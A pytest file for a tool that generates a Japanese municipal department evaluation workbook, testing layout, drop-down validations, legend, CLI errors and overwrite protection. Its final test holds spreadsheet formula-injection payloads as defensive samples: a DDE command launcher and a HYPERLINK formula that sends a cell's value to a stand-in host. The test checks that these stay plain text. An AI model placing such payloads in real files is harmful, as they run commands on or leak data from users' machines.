"""``hyoka template``: the department sheet to fill in, read back, filled with seed rows and checked."""

import csv
import zipfile

import openpyxl
import pytest

from hyoka.authoring.template import INPUT_ROWS, grade_prompt, write_template
from hyoka.errors import HyokaError
from hyoka.normalise.scale import load_scale
from hyoka.options import CheckOptions
from hyoka.output.places import with_cells
from hyoka.pipeline import run_check

from .conftest import SEED_CSV
from .inprocess import run_cli

DEPARTMENTS = ["市民協働推進課", "危機管理課", "交通防犯課", "健康増進課", "社会福祉課", "高齢福祉課", "生涯学習課"]
HEADER = [
    "項目",
    "事業名",
    "担当課",
    "取組内容",
    "協働の相手",
    "事業の評価",
    "効果、理由（問題点）",
    "目標指標",
    "基準値（R3）",
    "目標値（R9）",
    "現状値（R5）",
]
FIELDS = [
    "item",
    "project",
    "department",
    "activities",
    "partners",
    "grade",
    "effect",
    "indicator",
    "baseline",
    "target",
    "current",
]
SEED_PROJECTS = ["自治会加入促進に関する連携", "避難行動要支援者の支援", "市職員研修"]
VALUE_HINT = "数値と単位（例：85.19％、17件）、水準（実施・充実）、不明は「-」"


def hyoka(*args, cwd=None):
    return run_cli(*args, text=True, cwd=cwd)


def validations(ws):
    return {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}


@pytest.fixture()
def template(tmp_path):
    return write_template(tmp_path / "評価シート_R5.xlsx", load_scale("a-d"), DEPARTMENTS)


def seed_rows():
    with open(SEED_CSV, encoding="utf-8-sig", newline="") as fh:
        rows = {r["project"]: r for r in csv.DictReader(fh)}
    return [rows[p] for p in SEED_PROJECTS]


def test_header_title_and_layout(template):
    wb = openpyxl.load_workbook(template)
    assert wb.sheetnames == ["評価シート", "凡例"]
    ws = wb["評価シート"]
    assert ws["A1"].value == "令和5年度 実施状況（担当課記入用）"
    assert [c.value for c in ws[2]] == HEADER
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["D"].width > ws.column_dimensions["F"].width
    last = 2 + INPUT_ROWS
    assert INPUT_ROWS >= 200
    assert ws.cell(last, 11).number_format == "@" and ws.cell(last, 11).border.left.style == "thin"
    assert ws.cell(3, 9).number_format == "@"  # 60% typed stays the text 60%


def test_validations_drop_downs_and_hints(template):
    ws = openpyxl.load_workbook(template)["評価シート"]
    dvs = validations(ws)
    assert set(dvs) == {"F3:F202", "C3:C202", "I3:I202", "J3:J202", "K3:K202"}
    grade = dvs["F3:F202"]
    assert grade.type == "list" and grade.formula1 == '"A,B,C,D"'
    assert grade.errorStyle == "stop" and grade.showErrorMessage
    assert grade.showInputMessage and grade.promptTitle
    assert grade.prompt == "A：順調に進んでいる\nB：おおむね順調\nC：やや遅れている\nD：遅れている"
    dept = dvs["C3:C202"]
    assert dept.type == "list" and dept.formula1 == "'凡例'!$A$21:$A$27"
    assert dept.errorStyle == "warning"  # 旧課名→新課名 can still be typed
    legend = openpyxl.load_workbook(template)["凡例"]
    assert [legend[f"A{r}"].value for r in range(21, 28)] == DEPARTMENTS
    for col, year in (("I", "令和3年度"), ("J", "令和9年度"), ("K", "令和5年度")):
        hint = dvs[f"{col}3:{col}202"]
        assert hint.type is None and hint.showInputMessage
        assert hint.promptTitle.startswith(("基準値", "目標値", "現状値")) and len(hint.promptTitle) <= 32
        assert hint.prompt == f"{year}の値。{VALUE_HINT}"


def test_legend_sheet(template):
    legend = openpyxl.load_workbook(template)["凡例"]
    rows = [r for r in legend.iter_rows(values_only=True)]
    assert rows[1][0] == "評価の区分：4段階評価（A〜D）"
    assert rows[3] == ("評価", "順位", "区分", "意味", "Meaning")
    assert rows[4:8] == [
        ("A", 1, "上位", "順調に進んでいる", "on track"),
        ("B", 2, "上位", "おおむね順調", "mostly on track"),
        ("C", 3, "下位", "やや遅れている", "somewhat behind"),
        ("D", 4, "下位", "遅れている", "behind"),
    ]
    notes = "\n".join(str(r[0]) for r in rows if r[0])
    assert "「-」" in notes and "85.19％" in notes and "未実施・実施・継続・充実" in notes
    assert "C・D とした場合" in notes and "旧課名→新課名" in notes


def test_filled_template_passes_check_with_no_mapping(template, tmp_path):
    wb = openpyxl.load_workbook(template)
    ws = wb["評価シート"]
    for r, row in enumerate(seed_rows(), start=3):
        for c, fld in enumerate(FIELDS, start=1):
            ws.cell(r, c, row[fld])
    filled = tmp_path / "filled.xlsx"
    wb.save(filled)

    result = run_check([filled])  # no mapping, default a-d scale
    assert result.frame["project"].tolist() == SEED_PROJECTS
    assert result.frame["department"].tolist() == ["市民協働推進課", "社会福祉課", "市民協働推進課"]
    assert result.frame["baseline_year"].tolist() == [2021] * 3
    assert result.frame["current_year"].tolist() == [2023] * 3
    (table,) = result.tables
    assert table.sheets_read == ["評価シート"] and table.sheets_skipped == ["凡例"]
    f = with_cells(result)  # the place text is made at output time
    found = sorted(zip(f["code"], f["project"], f["cell"]))
    assert found == [
        ("D001", "自治会加入促進に関する連携", "[filled.xlsx]評価シート!J3"),
        ("G002", "避難行動要支援者の支援", "[filled.xlsx]評価シート!F4"),
    ]

    # every department filled in is on the drop-down's list: X003 has nothing to say
    listed = run_check([filled], CheckOptions(departments=list(DEPARTMENTS)))
    assert "X003" not in set(listed.findings["code"])


def test_rag_scale_drop_down_lists_codes_not_aliases(tmp_path):
    out = write_template(tmp_path / "rag.xlsx", load_scale("rag"), None)
    wb = openpyxl.load_workbook(out)
    dvs = validations(wb["評価シート"])
    assert "C3:C202" not in dvs  # no department list, no department drop-down
    assert dvs["F3:F202"].formula1 == '"green,amber,red,info"'
    assert [wb["凡例"][f"A{r}"].value for r in range(5, 9)] == ["green", "amber", "red", "info"]
    assert wb["凡例"]["B8"].value == "－"  # info is a status outside the ranks


def test_english_template_passes_check(tmp_path):
    out = write_template(tmp_path / "en.xlsx", load_scale("a-d"), ["Finance"], ("H30", "R7", "R5"), lang="en")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Evaluation", "Legend"]
    ws = wb["Evaluation"]
    assert [c.value for c in ws[2]][-3:] == ["baseline (H30)", "target (R7)", "current (R5)"]
    for c, value in enumerate(
        ["(1)", "Counter", "Finance", "", "", "B", "ok", "自治会加入率", "50％", "60％", "58％"], start=1
    ):
        ws.cell(3, c, value)
    wb.save(out)
    result = run_check([out], CheckOptions(lang="en"))
    assert result.tables[0].sheets_skipped == ["Legend"]
    assert result.frame["baseline_year"].tolist() == [2018]
    assert result.findings.empty


def test_long_scale_falls_back_to_a_range_and_clips_the_prompt(tmp_path):
    grades = "\n".join(
        f"  - {{code: G{i:02d}, rank: {i}, standing: {'upper' if i < 20 else 'lower'}, "
        f"meaning: {{ja: {'とても長い説明' * 4}, en: long}}}}"
        for i in range(1, 81)
    )
    path = tmp_path / "long.yaml"
    path.write_text(f"id: long\nname: {{ja: 長い, en: long}}\ngrades:\n{grades}\n", encoding="utf-8")
    scale = load_scale(path)
    out = write_template(tmp_path / "long.xlsx", scale, None)
    grade = validations(openpyxl.load_workbook(out)["評価シート"])["F3:F202"]
    assert grade.formula1 == "'凡例'!$A$5:$A$84"  # 80 codes are over Excel's 255 characters inline
    assert len(grade_prompt(scale)) <= 255 and grade.prompt.endswith("（凡例シート参照）")


def test_bad_years_and_paths(tmp_path):
    with pytest.raises(HyokaError, match="not a fiscal year"):
        write_template(tmp_path / "t.xlsx", load_scale(), None, ("R3", "R9", "soon"))
    with pytest.raises(HyokaError, match="xlsx"):
        write_template(tmp_path / "t.csv", load_scale(), None)
    assert list(tmp_path.iterdir()) == []


def test_cli_refuses_to_overwrite_without_force(tmp_path):
    deps = tmp_path / "departments.yaml"
    deps.write_text(
        "departments: [" + ", ".join(DEPARTMENTS) + "]\nrenames: {危機管理室: 危機管理課}\n", encoding="utf-8"
    )
    out = tmp_path / "t.xlsx"
    r = hyoka("template", out, "--departments", deps)
    assert r.returncode == 0, r.stderr
    assert "'凡例'!$A$21:$A$27" in {
        dv.formula1 for dv in openpyxl.load_workbook(out)["評価シート"].data_validations.dataValidation
    }
    before = out.read_bytes()

    r = hyoka("template", out, "--scale", "rag")
    assert r.returncode == 2
    assert r.stderr == f"hyoka: エラー: {out}: すでにあります。上書きするには --force を付けてください\n"
    assert out.read_bytes() == before

    r = hyoka("template", out, "--scale", "rag", "--years", "R4,R8,R6", "--force")
    assert r.returncode == 0, r.stderr
    ws = openpyxl.load_workbook(out)["評価シート"]
    assert ws["A1"].value == "令和6年度 実施状況（担当課記入用）"
    assert [c.value for c in ws[2]][-3:] == ["基準値（R4）", "目標値（R8）", "現状値（R6）"]
    assert '"green,amber,red,info"' in {dv.formula1 for dv in ws.data_validations.dataValidation}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["departments.yaml", "t.xlsx"]  # no temp file left


@pytest.mark.parametrize(
    "args, words",
    [
        (["--years", "R3,R9"], "--years 'R3,R9': 基準・目標・現状の3つの年度"),
        (["--scale", "nope"], "評価尺度 'nope' はありません"),
        (["--departments", "missing.yaml"], "missing.yaml: 読み込めません（ファイルまたはフォルダがありません）"),
    ],
)
def test_cli_errors_are_one_line_exit_2(tmp_path, args, words):
    r = hyoka("template", "t.xlsx", *args, cwd=tmp_path)
    assert r.returncode == 2
    assert words in r.stderr and r.stderr.count("\n") == 1 and "Traceback" not in r.stderr
    assert not (tmp_path / "t.xlsx").exists()


def test_formula_looking_names_and_scale_texts_stay_text(tmp_path):
    """#15: a department name or scale text starting with = is shown as written, never a formula."""
    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&A1,"開く")', "@SUM(1)", "+81-3"]
    path = tmp_path / "scale.yaml"
    path.write_text(
        "id: evil\nname: {ja: '=1+1', en: x}\ngrades:\n"
        "  - {code: A, rank: 1, standing: upper, meaning: {ja: '=cmd|'' /C calc''!A0', en: '-2+3'}}\n"
        "  - {code: B, rank: 2, standing: lower, meaning: {ja: 下, en: low}}\n",
        encoding="utf-8",
    )
    out = write_template(tmp_path / "t.xlsx", load_scale(path), [*hostile, "財政課"])

    with zipfile.ZipFile(out) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml  # not one formula in the workbook
    legend = openpyxl.load_workbook(out)["凡例"]
    texts = {c.value: c for row in legend.iter_rows() for c in row if isinstance(c.value, str)}
    for text in [*hostile, "=cmd|' /C calc'!A0", "-2+3"]:
        assert texts[text].data_type == "s" and texts[text].quotePrefix, text  # as written, quote-prefixed
    assert not texts["財政課"].quotePrefix
